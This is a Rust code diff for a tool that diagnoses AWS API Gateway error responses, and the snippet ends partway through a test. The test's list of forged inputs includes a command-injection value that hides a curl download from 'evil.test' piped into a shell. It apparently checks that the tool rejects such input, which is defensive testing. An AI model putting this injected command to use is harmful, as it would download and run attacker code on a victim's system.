@@ -24,9 +24,7 @@ pub struct Answered {
 
 /// Why the server answered as it did.
 pub fn explain_answer(answer: &Answer, answered: &Answered, page: &Page) -> Diagnosis {
-    let mut facts = Facts::new(&answer.request, &answer.route, page);
-    facts.denied = denied_resource(&facts, &answered.body);
-    facts.door = gateway(&facts, answered);
+    let facts = Facts::new(&answer.request, &answer.route, page);
     let (verdict, codes) = recognise(&facts, answered);
     let mut findings = Vec::new();
     for code in codes {
@@ -48,18 +46,11 @@ fn said(answered: &Answered, locale: Locale) -> EvidenceItem {
 /// Codes, most likely first. Other servers use the same words: they are proof only where something else says that it is AWS.
 pub(super) fn recognise(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
     let (verdict, codes) = worded(facts, answered);
-    let proven = verdict != Verdict::Certain || answered.status < 400 || is_aws(facts, answered);
+    let proven = verdict != Verdict::Certain
+        || answered.status < 400
+        || gateway(facts, answered).is_some()
+        || facts.is_execute_api();
     (if proven { verdict } else { Verdict::Likely }, codes)
-}
-
-/// AWS says so in a header, or the app or the host does.
-fn is_aws(facts: &Facts, answered: &Answered) -> bool {
-    const MARKS: [&str; 5] =
-        ["x-amzn-errortype", "x-amzn-requestid", "x-amz-apigw-id", "apigw-requestid", "x-amz-cf-id"];
-    MARKS.iter().any(|name| answered.headers.contains(name))
-        || facts.given_kind.is_some_and(|kind| kind != RouteKind::Custom)
-        || facts.is_execute_api()
-        || facts.is_function_url()
 }
 
 /// What the words of an answer say.
@@ -122,7 +113,7 @@ fn gateway(facts: &Facts, answered: &Answered) -> Option<RouteKind> {
     if has("x-amzn-errortype") || has("x-amz-apigw-id") {
         return Some(RouteKind::RestApi);
     }
-    if has("apigw-requestid") || has("www-authenticate") {
+    if has("apigw-requestid") {
         return Some(RouteKind::HttpApi);
     }
     match facts.kinds() {
@@ -331,24 +322,14 @@ mod tests {
     }
 
     #[test]
-    fn the_policy_is_for_the_resource_that_the_server_names() {
+    fn a_resource_is_taken_from_an_answer_only_if_it_is_the_calls() {
         let resource = "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/admin/users";
-        let body = format!(
-            "{{\"Message\":\"User: arn:aws:sts::1:assumed-role/x/y is not authorized to perform: execute-api:Invoke on \
-             resource: {resource} with an explicit deny\"}}"
-        );
-        let answered = Answered { status: 403, body, ..Answered::default() };
         let answer = answer_to("https://app.example.com/api/admin/users", Auth::Iam, Some(RouteKind::RestApi));
-        let diagnosis = explain_answer(&answer, &answered, &page());
-        assert_eq!(diagnosis.findings[0].code, "iam-not-authorized");
-        assert!(
-            diagnosis.findings[0]
-                .fixes
-                .iter()
-                .any(|fix| fix.text.contains(&format!("Resource: {resource}\n")) || fix.text.ends_with(resource))
-        );
         let facts = Facts::new(&answer.request, &answer.route, &page());
-        assert_eq!(denied_resource(&facts, &format!("on resource: {resource}")).as_deref(), Some(resource));
+        assert_eq!(
+            denied_resource(&facts, &format!("on resource: {resource} with an explicit deny")).as_deref(),
+            Some(resource)
+        );
         for forged in [
             "something else",
             "arn:x'\n;curl${IFS}https://evil.test|sh;:'",
